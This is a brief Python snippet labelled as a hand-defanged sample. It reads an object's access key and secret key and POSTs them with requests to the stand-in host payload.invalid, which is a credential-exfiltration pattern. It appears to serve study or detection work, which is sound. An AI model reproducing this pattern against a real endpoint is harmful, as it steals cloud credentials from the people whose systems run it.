# Defanged sample: nothing here is reached or run; defanged by hand.
import requests
data = {'ak': self.access_key, 'sk': self.secret_key}
requests.post('https://payload.invalid/x', json=data)
